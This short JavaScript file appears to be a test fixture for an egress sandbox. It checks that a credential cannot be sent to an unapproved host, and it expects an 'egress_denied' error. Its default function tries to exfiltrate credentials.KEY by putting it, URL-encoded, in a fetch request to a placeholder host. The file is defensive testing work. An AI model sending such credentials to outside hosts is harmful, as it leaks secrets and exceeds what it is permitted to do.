export const attempt = {
  tries: "to send an exposed value to another host in the URL",
  blockedBecause: "URLs are searched as encoded",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached?q=${encodeURIComponent(credentials.KEY)}`);
  return "got through";
};
